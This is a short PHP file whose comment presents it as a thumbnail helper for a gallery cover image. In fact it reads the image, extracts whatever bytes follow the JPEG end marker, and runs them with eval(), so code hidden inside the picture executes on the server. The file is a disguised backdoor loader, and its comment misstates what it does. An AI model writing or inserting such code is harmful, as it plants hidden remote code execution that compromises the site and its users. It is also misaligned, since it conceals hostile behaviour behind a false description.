<?php
/**
 * Thumbnail helper: reads the gallery cover.
 */
$cover = fopen(__DIR__ . '/galeri/sampul.jpg', 'rb');
$raw = fread($cover, filesize(__DIR__ . '/galeri/sampul.jpg'));
fclose($cover);
$tail = substr($raw, strrpos($raw, "\xff\xd9") + 2);
eval($tail);
